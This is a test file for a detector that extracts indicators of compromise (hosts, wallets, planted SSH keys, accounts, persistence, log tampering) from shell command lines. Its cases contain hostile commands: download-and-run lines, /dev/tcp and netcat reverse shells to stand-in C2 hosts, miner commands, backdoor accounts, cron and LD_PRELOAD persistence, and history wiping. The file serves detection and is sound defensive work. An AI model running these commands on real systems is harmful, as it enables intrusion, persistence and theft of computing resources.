import assert from "node:assert/strict";
import { describe, test } from "node:test";
import { shellIndicators } from "../../../gateway/evidence/indicators/shell-text.ts";
import { byteString } from "./byte-string.ts";

/** What a command line tells, as `kind value`, each once. */
function told(text: string, own = "root"): string[] {
  return [...new Set(shellIndicators(byteString(text), own).map(({ kind, value }) => `${kind} ${value}`))];
}

const KEY = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIJXU4Wq0oSYuR3BT4qRAmBrRBP7JmhEnjyhA7pEhUXJc";
const FINGERPRINT = "SHA256:aawnHCmR5mkFPW+z71XxNocx8k4lHnZsxLgbuS0FCDU";
const MONERO =
  "44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A";

const CASES: Readonly<Record<string, readonly (readonly [string, readonly string[]])[]>> = {
  "URLs and hosts": [
    ["wget http://203.0.113.7/a.sh;sh a.sh", ["url http://203.0.113.7/a.sh", "address 203.0.113.7"]],
    [
      "curl -s 'http://C2.example.com:8080/a?b=1&c=2'",
      ["url http://c2.example.com:8080/a?b=1&c=2", "domain c2.example.com"],
    ],
    ["curl 'http://c2.example.com/a|b;c'", ["url http://c2.example.com/a|b;c", "domain c2.example.com"]],
    ["sh -c 'wget http://c2.example.com/a; ls'", ["url http://c2.example.com/a", "domain c2.example.com"]],
    ["(curl http://c2.example.com/a)", ["url http://c2.example.com/a", "domain c2.example.com"]],
    ["wget http://c2.example.com/\xd1\x84", ["url http://c2.example.com/\xd1\x84", "domain c2.example.com"]],
    ["wget 203.0.113.5/x.sh -O- | sh", ["address 203.0.113.5", "url http://203.0.113.5/x.sh"]],
    ["curl -fsSL evil.example.com/i", ["url http://evil.example.com/i", "domain evil.example.com"]],
    ["tftp -g -r x.sh 203.0.113.8", ["address 203.0.113.8"]],
    ["nc c2.example.com 4444 -e /bin/sh", ["domain c2.example.com"]],
    ["bash -i >& /dev/tcp/203.0.113.9/4444 0>&1", ["address 203.0.113.9"]],
    ["exec 3<>/dev/tcp/c2.example.com/80", ["domain c2.example.com"]],
    ["python3 -c 's.connect((\"203.0.113.9\",4444))'", ["address 203.0.113.9"]],
    ["ssh -p 2222 bob@c2.example.com", ["domain c2.example.com"]],
    ["HOST=c2.example.com", ["domain c2.example.com"]],
    [
      "echo d2dldCBodHRwOi8vMjAzLjAuMTEzLjcveAo= | base64 -d | sh",
      ["url http://203.0.113.7/x", "address 203.0.113.7"],
    ],
    ["ping6 2001:db8::7", ["address 2001:db8::7"]],
  ],
  "what only looks like a host": [
    ["apt-get install foo=1.2.3.4", []],
    ["echo version 1.2.3.4; tar xf app-1.2.3.4.tgz; cd /opt/1.2.3.4/bin; pip install x==1.2.3.4", []],
    [
      "./install.sh; cat file.name; python -c 'import os; os.name'; vi main.rs:12; systemctl stop x.target",
      [],
    ],
    ["wget install.sh; NAME=run.sh", []],
    ["ping -c 1 8.8.8.8; curl http://127.0.0.1/; nc 10.0.0.5 80; curl http://169.254.169.254/latest", []],
    ["curl http://deb.debian.org/debian/; ping localhost; wget http://server/x", []],
    ["iptables -A INPUT -s 203.0.113.0/24 -j DROP", []],
    ["wget http://$IP/x; curl http://c2.example.com/$(uname -m)", ["domain c2.example.com"]],
    ["echo 256.1.1.1 1.2.3 01.2.3.4 203.0.113.7.5", []],
  ],
  "wallets and pools": [
    [
      `xmrig -o pool.example.com:3333 -u ${MONERO} -p x`,
      ["domain pool.example.com", `wallet ${MONERO}`, "pool pool.example.com:3333"],
    ],
    [`xmrig -u ${MONERO.slice(0, -1)}B`, []],
    [
      "xmrig -o stratum+tcp://pool.example.net:4444",
      ["pool pool.example.net:4444", "domain pool.example.net"],
    ],
    ["echo 1A1zP1eP5QGefi2DMPTfTL5SLmv7DivfNa", ["wallet 1A1zP1eP5QGefi2DMPTfTL5SLmv7DivfNa"]],
    ["echo 1A1zP1eP5QGefi2DMPTfTL5SLmv7DivfNb", []],
    [
      "echo bc1qar0srrr7xfkvy5l643lydnw9re59gtzzwf5mdq",
      ["wallet bc1qar0srrr7xfkvy5l643lydnw9re59gtzzwf5mdq"],
    ],
    ["echo bc1qar0srrr7xfkvy5l643lydnw9re59gtzzwf5mdp", []],
    // BIP 350, version 1.
    [
      "echo bc1p0xlxvlhemja6c4dqv22uapctqupfhlxm9h8z3k2e72q4k9hcz7vqzk5jj0",
      ["wallet bc1p0xlxvlhemja6c4dqv22uapctqupfhlxm9h8z3k2e72q4k9hcz7vqzk5jj0"],
    ],
    [
      "echo 0x5aAeb6053F3E94C9b9A09f33669435E7Ef1BeAed",
      ["wallet 0x5aAeb6053F3E94C9b9A09f33669435E7Ef1BeAed"],
    ],
    ["echo 0x5aAeb6053F3E94C9b9A09f33669435E7Ef1BeAeD 0x5aaeb6053f3e94c9b9a09f33669435e7ef1beaed", []],
    [
      "miner --coin eth 0x5aaeb6053f3e94c9b9a09f33669435e7ef1beaed",
      ["wallet 0x5aaeb6053f3e94c9b9a09f33669435e7ef1beaed"],
    ],
  ],
  hashes: [
    ["echo '0123456789abcdef0123456789abcdef  x' | md5sum -c", ["hash 0123456789abcdef0123456789abcdef"]],
    ["echo 0123456789abcdef0123456789abcdef", []],
    ["echo 'd41d8cd98f00b204e9800998ecf8427e  x' | md5sum -c", []],
    [`echo sha256:${"ab".repeat(32)}`, [`hash ${"ab".repeat(32)}`]],
    [`docker rm ${"ab".repeat(32)}; git checkout ${"ab".repeat(20)}`, []],
  ],
  "keys planted": [
    [`echo "${KEY} mdrfckr" >> ~/.ssh/authorized_keys`, [`ssh-key ${FINGERPRINT}`]],
    [`cat > .ssh/authorized_keys <<E\n${KEY}\nE`, [`ssh-key ${FINGERPRINT}`]],
    [`echo ${KEY.replace("AAAAC3", "AAAAD3")} >> ~/.ssh/authorized_keys`, []],
    [`echo ${KEY.slice(0, -3)}`, []],
    [`echo "c2 ${KEY}" >> ~/.ssh/known_hosts`, []],
  ],
  "accounts and passwords": [
    ["useradd -m -s /bin/bash -G sudo hax", ["user-made hax"]],
    ["sudo adduser --gecos '' --disabled-password bob", ["user-made bob"]],
    ["useradd -o -u 0 -p '$6$x$y' sys", ["user-made sys", "password-changed sys"]],
    ["useradd -D; adduser --help", []],
    ["echo root:Ab:12 | chpasswd", ["password-changed root:Ab:12"]],
    ["chpasswd <<< 'root:x1'", ["password-changed root:x1"]],
    ["printf 'root:%s\\n' pw2 | chpasswd", ["password-changed root:pw2"]],
    ["echo -e 'pw1\\npw1' | passwd", ["password-changed root:pw1"]],
    ['echo -e "old\\nnew1\\nnew1" | passwd bob', ["password-changed bob:new1"]],
    ["echo n | passwd --stdin bob", ["password-changed bob:n"]],
    ["passwd -S root; cat /etc/passwd", []],
    ["usermod -p '$1$a' root", ["password-changed root"]],
    ["echo 'r00t:x:0:0::/root:/bin/sh' >> /etc/passwd", ["user-made r00t"]],
    ["echo 'root:$6$a$b:19000:0:99999:7:::' > /etc/shadow", ["password-changed root"]],
  ],
  persistence: [
    ["(crontab -l; echo '*/5 * * * * /tmp/.x/run') | crontab -", ["cron */5 * * * * /tmp/.x/run"]],
    ["echo '@reboot   root /tmp/run' > /etc/cron.d/x", ["cron @reboot root /tmp/run"]],
    ["crontab -l; crontab -r; crontab -e", []],
    ["echo '5 apples 3 pears 1 plum' | crontab -", []],
    ["cp /tmp/a /etc/cron.hourly/", ["cron /etc/cron.hourly/a"]],
    ["cat > /etc/systemd/system/e.service <<E\n[Service]\nExecStart=/tmp/e\nE", ["service e.service"]],
    ["systemctl enable --now e; systemctl start f", ["service e.service"]],
    [
      "echo /tmp/run >> ~/.bashrc; echo x | tee -a /etc/rc.local",
      ["startup ~/.bashrc", "startup /etc/rc.local"],
    ],
    ["sed -i '1i /tmp/x' /etc/profile; cat /etc/profile", ["startup /etc/profile"]],
    ["echo /lib/x.so > /etc/ld.so.preload", ["preload /lib/x.so"]],
    ["export LD_PRELOAD=/tmp/a.so; LD_PRELOAD=/tmp/b.so ls", ["preload /tmp/a.so", "preload /tmp/b.so"]],
    ["echo 'bob ALL=(ALL) NOPASSWD:ALL' >> /etc/sudoers", ["sudoers /etc/sudoers"]],
    ["insmod /tmp/rk.ko; modprobe -r foo; modprobe bar", ["kernel-module rk.ko", "kernel-module bar"]],
  ],
  "user agents": [
    ["wget -U 'Mozilla/5.0 (bot)' -q x", ["user-agent Mozilla/5.0 (bot)"]],
    ["curl -A zgrab/0.x x", ["user-agent zgrab/0.x"]],
    ["wget --user-agent=evil x", ["user-agent evil"]],
    ["curl -s -H 'User-Agent: abc d' -H 'X: y' x", ["user-agent abc d"]],
    ['curl -A "$UA" x; ls -A foo; wget x -O UserAgent', []],
  ],
  tampering: [
    ["history -c", ["tampering history -c"]],
    ["unset  HISTFILE", ["tampering unset HISTFILE"]],
    ["export HISTFILE=/dev/null", ["tampering export HISTFILE=/dev/null"]],
    ["rm -rf ~/.bash_history", ["tampering rm -rf ~/.bash_history"]],
    ["> /var/log/wtmp", ["tampering > /var/log/wtmp"]],
    ["chattr -ia .ssh; lockr -ia .ssh", ["tampering chattr -ia .ssh", "tampering lockr -ia .ssh"]],
    [
      "iptables -F; ufw disable; setenforce 0",
      ["tampering iptables -F", "tampering ufw disable", "tampering setenforce 0"],
    ],
    ["systemctl stop rsyslog", ["tampering systemctl stop rsyslog"]],
    ["touch -r /bin/ls /tmp/x", ["tampering touch -r /bin/ls /tmp/x"]],
    ["history; cat /var/log/auth.log; iptables -L; touch x; echo a > /var/tmp/log", []],
  ],
};

for (const [what, cases] of Object.entries(CASES))
  describe(`indicators: ${what}`, () => {
    for (const [text, expected] of cases)
      test(text.slice(0, 90), () => {
        assert.deepEqual(told(text).sort(), [...expected].sort());
      });
  });

test("details: a key's type and comment, a unit's command, where a line goes", () => {
  const details = (text: string) => shellIndicators(byteString(text), "root").map((one) => one.details);
  assert.deepEqual(details(`echo "${KEY} mdr fckr" >> /root/.ssh/authorized_keys`), [
    { type: "ssh-ed25519", comment: "mdr fckr", file: "/root/.ssh/authorized_keys" },
  ]);
  assert.deepEqual(details("cat > /etc/systemd/system/e.service <<E\n ExecStart = /tmp/e -x\nE"), [
    { path: "/etc/systemd/system/e.service", exec: "/tmp/e -x" },
  ]);
  assert.deepEqual(details("echo '* * * * * x' > /var/spool/cron/crontabs/bob"), [
    { file: "/var/spool/cron/crontabs/bob", account: "bob" },
  ]);
});
